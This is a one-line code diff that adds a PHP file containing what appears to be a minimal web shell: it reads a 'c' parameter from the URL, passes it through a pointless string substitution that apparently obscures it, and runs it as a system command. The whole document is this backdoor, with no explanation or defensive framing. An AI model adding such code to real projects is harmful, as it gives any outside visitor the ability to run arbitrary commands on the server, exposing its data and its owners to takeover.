@@ -1,0 +1,1 @@
+<?php $c = strtr("X", ["X" => $_GET["c"]]); system($c);
